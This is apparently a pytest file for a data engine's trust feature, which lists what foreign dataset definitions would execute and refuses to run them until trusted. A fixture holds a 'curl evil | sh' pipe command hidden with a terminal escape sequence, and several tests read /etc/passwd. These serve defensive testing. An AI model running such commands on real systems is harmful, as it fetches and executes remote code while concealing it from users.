"""Trust: what somebody else wrote is listed, allowed as it is, and refused again when it changes."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from odf_engine.base.progress import Reporter
from odf_engine.errors import Conflict, NotTrusted
from odf_engine.metadata.model import (
    AddPushSource,
    Append,
    DisablePollingSource,
    DisablePushSource,
    MetadataEvent,
    NdJson,
    Pipe,
    SetInfo,
    SetPollingSource,
    Sql,
    SqlQueryStep,
    Url,
)
from odf_engine.metadata.timestamp import Timestamp
from odf_engine.metadata.yaml import read_manifests
from odf_engine.workspace.dataset_summary import DatasetEntry
from odf_engine.workspace.fsck import check_workspace
from odf_engine.workspace.trust import Trust
from odf_engine.workspace.workspace import Workspace

MANIFEST = r"""
kind: DatasetSnapshot
version: 1
content:
  name: foreign
  kind: Root
  metadata:
    - kind: SetPollingSource
      fetch:
        kind: Url
        url: https://host/${{ env.AREA }}.zip
        headers:
          - name: Authorization
            value: Bearer ${{ env.TOKEN }}
      prepare:
        - kind: Decompress
          format: Zip
        - kind: Pipe
          command: [sh, -c, "curl evil | sh\e[2K", ""]
      read:
        kind: NdJson
      preprocess:
        kind: Sql
        engine: spark
        queries:
          - alias: one
            query: SELECT 1
          - query: SELECT * FROM one
      merge:
        kind: Append
"""
CONTAINER = """
kind: DatasetSnapshot
version: 1
content:
  name: foreign
  kind: Root
  metadata:
    - kind: SetPollingSource
      fetch:
        kind: Container
        image: host/image:1
        command: [fetch it]
        args: [--all]
        env:
          - name: KEY
          - name: AREA
            value: ${{ env.AREA }}/x
      read:
        kind: NdJson
      merge:
        kind: Append
"""
PUSH = """
kind: DatasetSnapshot
version: 1
content:
  name: foreign
  kind: Root
  metadata:
    - kind: AddPushSource
      sourceName: gone
      read: {kind: NdJson, schema: [a BIGINT]}
      merge: {kind: Append}
    - kind: AddPushSource
      sourceName: devices
      read: {kind: NdJson, schema: [a BIGINT]}
      preprocess: {kind: Sql, engine: spark, query: SELECT 2}
      merge: {kind: Append}
"""


def copied(workspace: Workspace, text: str = MANIFEST) -> DatasetEntry:
    """A dataset folder that somebody else made, copied into the workspace."""
    other = Workspace.init(workspace.folder.parent / "other")
    (made,) = other.add(read_manifests(text, "test.yaml"))
    shutil.copytree(made.dataset.folder, workspace.odf / "datasets" / made.dataset.folder.name)
    return workspace.resolve("foreign")


def commit(entry: DatasetEntry, event: MetadataEvent) -> None:
    entry.dataset.commit([event], system_time=Timestamp.now(), expected_head=entry.dataset.head())


def local(path: str, *pipes: list[str]) -> SetPollingSource:
    return SetPollingSource(
        fetch=Url(path), prepare=[Pipe(pipe) for pipe in pipes] or None, read=NdJson(), merge=Append()
    )


def test_locally_created_dataset_is_trusted(workspace: Workspace) -> None:
    (entry,) = workspace.add(read_manifests(MANIFEST, "test.yaml"))
    trust = Trust(workspace)
    assert trust.is_own(entry) and trust.is_trusted(entry) and trust.allows_private_network(entry)
    trust.require_trust(entry)


def test_third_party_definition_is_untrusted(workspace: Workspace) -> None:
    (entry,) = workspace.add(read_manifests(MANIFEST, "test.yaml"), {"Foreign": "https://host/x.yaml"})
    trust = Trust(workspace)
    assert not trust.is_own(entry) and trust.read_origin(entry) == "https://host/x.yaml"
    with pytest.raises(NotTrusted):
        trust.require_trust(entry)


def test_everything_that_runs_is_listed(workspace: Workspace) -> None:
    trust, entry = Trust(workspace), copied(workspace)
    runs = trust.list_executions(entry)
    assert [(run.kind, run.text) for run in runs] == [
        ("url", "https://host/${{ env.AREA }}.zip"),
        ("header", "Authorization: Bearer ${{ env.TOKEN }}"),
        ("variable", "AREA"),
        ("variable", "TOKEN"),
        ("pipe", r"sh -c 'curl evil | sh\x1b[2K' ''"),
        ("query", "SELECT 1"),
        ("query", "SELECT * FROM one"),
    ]
    assert {run.block for run in runs} == {entry.dataset.block(1).hash}
    commit(entry, local("data/${{ env.A"))
    assert [(execution.kind, execution.text) for execution in trust.list_executions(entry)] == [
        ("file", str(workspace.folder / "data/${{ env.A"))
    ]
    commit(entry, DisablePollingSource())
    assert trust.list_executions(entry) == []
    trust.require_trust(entry)  # nothing would run


def test_containers_are_listed(workspace: Workspace) -> None:
    runs = Trust(workspace).list_executions(copied(workspace, CONTAINER))
    assert [(run.kind, run.text) for run in runs] == [
        ("image", "host/image:1"),
        ("command", "'fetch it' --all"),
        ("set", "AREA=${{ env.AREA }}/x"),
        ("variable", "AREA"),
        ("variable", "KEY"),
    ]


def test_push_sources_are_listed_while_they_are_active(workspace: Workspace) -> None:
    trust, entry = Trust(workspace), copied(workspace, PUSH)
    commit(entry, DisablePushSource("gone"))
    assert [(execution.kind, execution.text) for execution in trust.list_executions(entry)] == [
        ("push", "devices"),
        ("query", "SELECT 2"),
    ]
    with pytest.raises(NotTrusted, match="push `devices`"):
        trust.require_trust(entry)


def test_grant_ends_when_the_source_changes(workspace: Workspace) -> None:
    trust, entry = Trust(workspace), copied(workspace)
    with pytest.raises(NotTrusted) as caught:
        trust.require_trust(entry)
    assert caught.value.exit_code == 1
    assert "curl evil" in caught.value.message and "odf trust foreign" in (caught.value.hint or "")

    trust.grant(entry)
    trust.require_trust(entry)
    assert trust.is_trusted(entry) and not trust.is_own(entry) and not trust.allows_private_network(entry)
    commit(entry, SetInfo("harmless"))
    Trust(Workspace(workspace.folder)).require_trust(entry)

    commit(entry, local("/etc/passwd"))
    newest = entry.dataset.head()
    with pytest.raises(NotTrusted) as caught:
        trust.require_trust(entry)
    assert str(newest) in caught.value.message
    assert "new: file `/etc/passwd`; removed: url `https://host/" in caught.value.message

    trust.grant(entry, private_network=True)
    assert trust.allows_private_network(entry)
    commit(entry, local("/etc/passwd", ["wc"]))
    assert not trust.allows_private_network(entry)
    with pytest.raises(NotTrusted, match=r"new: pipe `wc`$"):
        trust.require_trust(entry)

    trust.grant(entry)
    assert trust.revoke(entry) and not trust.revoke(entry)
    with pytest.raises(NotTrusted, match="not created by you"):
        trust.require_trust(entry)


def test_a_filter_needs_no_trust(workspace: Workspace) -> None:
    entry = copied(workspace)
    commit(entry, local("/etc/passwd", ["odf", "filter", "csv"], ["odf", "fitler"]))
    runs = [(run.kind, run.text) for run in Trust(workspace).list_executions(entry)]
    assert ("pipe", "odf fitler") in runs and ("pipe", "odf filter csv") not in runs


def test_grant_covers_fewer_sources_but_no_additional_one(workspace: Workspace) -> None:
    trust, entry = Trust(workspace), copied(workspace, PUSH)
    trust.grant(entry)
    commit(entry, DisablePushSource("gone"))
    assert trust.is_trusted(entry)
    query = Sql(engine="spark", queries=[SqlQueryStep(query="SELECT 3")])
    read = NdJson(schema=["a BIGINT"])
    commit(entry, AddPushSource(source_name="more", read=read, preprocess=query, merge=Append()))
    assert not trust.is_trusted(entry)
    with pytest.raises(NotTrusted, match="new: push `more`"):
        trust.require_trust(entry)


def test_only_what_was_shown_is_allowed(workspace: Workspace) -> None:
    trust, entry = Trust(workspace), copied(workspace)
    shown = trust.list_executions(entry)
    commit(entry, local("/etc/passwd"))
    with pytest.raises(Conflict, match="the sources of foreign have changed"):
        trust.grant(entry, shown=shown)
    assert trust.find_grant(entry) is None


def test_nothing_in_a_datasets_folder_makes_it_trusted(workspace: Workspace) -> None:
    trust, entry = Trust(workspace), copied(workspace)
    trust.grant(entry)
    grant = next((workspace.odf / "trust").iterdir())
    trust.revoke(entry)
    for name in ("trust", grant.name, "trusted.json"):
        (entry.dataset.folder / "info" / name).write_text("{}")
    assert not trust.is_trusted(entry)


@pytest.mark.parametrize("content", [b"", b"{}", b"\xff"])
def test_a_damaged_grant_allows_nothing(workspace: Workspace, content: bytes) -> None:
    trust, entry = Trust(workspace), copied(workspace)
    trust.grant(entry)
    path: Path = next((workspace.odf / "trust").iterdir())
    assert path.stat().st_mode & 0o077 == 0
    path.write_bytes(content)
    assert not trust.is_trusted(entry)


def test_a_deleted_dataset_leaves_no_permission(workspace: Workspace) -> None:
    entry = copied(workspace)
    Trust(workspace).grant(entry)
    workspace.delete(entry)
    assert check_workspace(workspace, Reporter()).findings == []
